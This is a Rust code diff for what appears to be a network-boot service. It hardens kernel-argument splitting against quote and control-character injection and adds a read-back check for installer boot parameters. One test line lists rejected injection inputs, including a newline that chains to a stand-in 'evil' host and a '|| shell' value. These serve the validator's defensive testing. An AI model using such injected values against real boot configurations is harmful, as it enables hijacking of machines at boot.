@@ -22,6 +22,8 @@
 
 pub mod reader;
 
+use osie_api::{BootParams, MacAddr};
+
 /// Why a value cannot go into a script.
 pub type Unsafe = String;
 
@@ -52,15 +54,45 @@ pub fn check_word(w: &str) -> Result<(), Unsafe> {
 
 /// Split kernel arguments written as one string (`"console=ttyS0 quiet"`) into safe words.
 /// Only spaces separate; any other whitespace or control character is refused, so a newline
-/// can never start a new command.
+/// can never start a new command, and so is `"`, which the kernel reads as quoting.
 pub fn split_args(s: &str) -> Result<Vec<String>, Unsafe> {
     if let Some(c) = s.chars().find(|c| *c != ' ' && !matches!(c, '!'..='~')) {
         return Err(format!("contains {c:?}: kernel arguments are printable ASCII separated by spaces"));
+    }
+    if s.contains('"') {
+        // The kernel (and the installer reading /proc/cmdline) take `"` as quoting: an
+        // unbalanced one swallows every argument after it, osie.url and osie.mac included.
+        return Err(
+            "contains '\"': the kernel reads quotes as joining words, which would swallow osie.url and osie.mac".into(),
+        );
     }
     s.split(' ')
         .filter(|w| !w.is_empty())
         .map(|w| check_word(w).map(|()| w.to_string()).map_err(|e| format!("argument {w:?} {e}")))
         .collect()
+}
+
+/// The installer's kernel command line: the service's arguments, the machine's, then
+/// `osie.url` and `osie.mac` (last, so they win), each argument a safe word. Refused when the
+/// installer would not read back exactly this URL and MAC from it (an `osie.ip=` it cannot
+/// parse, say): such a machine would boot into an installer that gives up at once.
+pub fn installer_args(
+    base_url: &str,
+    service: &str,
+    machine: Option<&str>,
+    mac: MacAddr,
+) -> Result<Vec<String>, Unsafe> {
+    let mut args = split_args(service)?;
+    if let Some(a) = machine {
+        args.extend(split_args(a)?);
+    }
+    let params = BootParams { url: base_url.to_string(), mac, ip: None, debug: false, rescue: false };
+    args.extend(params.to_args());
+    match BootParams::parse(&args.join(" ")) {
+        Ok(p) if p.url == base_url.trim_end_matches('/') && p.mac == mac => Ok(args),
+        Ok(p) => Err(format!("the installer would read osie.url={} osie.mac={} from it", p.url, p.mac)),
+        Err(e) => Err(format!("the installer could not read it: {e}")),
+    }
 }
 
 /// `Ok` if `url` is a safe word with one of `schemes` (`"http"`, `"https"`…) and a host.
@@ -252,10 +284,28 @@ mod tests {
     fn split_args_refuses_control_characters() {
         assert_eq!(split_args("  console=tty0   quiet ").unwrap(), args(&["console=tty0", "quiet"]));
         assert_eq!(split_args("").unwrap(), Vec::<String>::new());
-        for bad in ["quiet\nchain http://evil/x", "a\tb", "quiet ${x}", "quiet || shell", "a \\", "x #comment"] {
+        // `!"#…`: found by fuzzing (bootsvc/fuzz, target ipxe): the quote joined everything
+        // after it into one kernel parameter, and the installer found no osie.url.
+        for bad in
+            ["quiet\nchain http://evil/x", "a\tb", "quiet ${x}", "quiet || shell", "a \\", "x #comment", "!\"#$%&'()"]
+        {
             let e = split_args(bad).unwrap_err();
             assert!(!e.is_empty(), "{bad:?}");
         }
+    }
+
+    #[test]
+    fn installer_args_must_read_back() {
+        let mac: MacAddr = "52:54:00:00:00:01".parse().unwrap();
+        let a = installer_args("http://192.0.2.1:8080", "console=ttyS0", Some("osie.debug"), mac).unwrap();
+        assert_eq!(
+            a,
+            args(&["console=ttyS0", "osie.debug", "osie.url=http://192.0.2.1:8080", "osie.mac=52:54:00:00:00:01"])
+        );
+        // An osie.ip the installer cannot parse makes it give up before it does anything.
+        let e = installer_args("http://192.0.2.1:8080", "", Some("osie.ip=nonsense"), mac).unwrap_err();
+        assert!(e.contains("could not read"), "{e}");
+        assert!(installer_args("http://192.0.2.1:8080", "", Some("osie.ip=192.0.2.9/24,192.0.2.1"), mac).is_ok());
     }
 
     #[test]
